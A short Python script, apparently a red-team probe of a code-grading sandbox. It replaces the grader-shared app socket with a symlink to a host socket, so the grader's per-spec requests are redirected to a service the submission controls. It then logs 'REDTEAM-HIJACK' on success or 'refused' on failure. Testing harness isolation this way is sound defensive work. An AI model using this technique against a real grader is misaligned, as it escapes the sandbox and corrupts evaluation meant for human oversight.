"""Swap the launcher's app socket, in the folder shared with the grader, for a link to a socket
on the host: the grader's spec side, which connects afresh for every spec, would then send the
specs' requests to a host service of the submission's choosing."""

import sys
from pathlib import Path

TARGET = "/tmp/kata-redteam-hijack.sock"

if not getattr(sys, "_redteam_hijacked", False):
    sys._redteam_hijacked = True
    argv = sys.argv
    sockets = Path(argv[argv.index("--sockets") + 1]) if "--sockets" in argv else None
    if sockets is not None:
        app_socket = sockets / "app.sock"
        try:
            app_socket.unlink()
            app_socket.symlink_to(TARGET)
        except OSError as exc:
            print(f"REDTEAM-HIJACK refused: {exc}", flush=True)
        else:
            print(f"REDTEAM-HIJACK {app_socket} -> {TARGET}", flush=True)
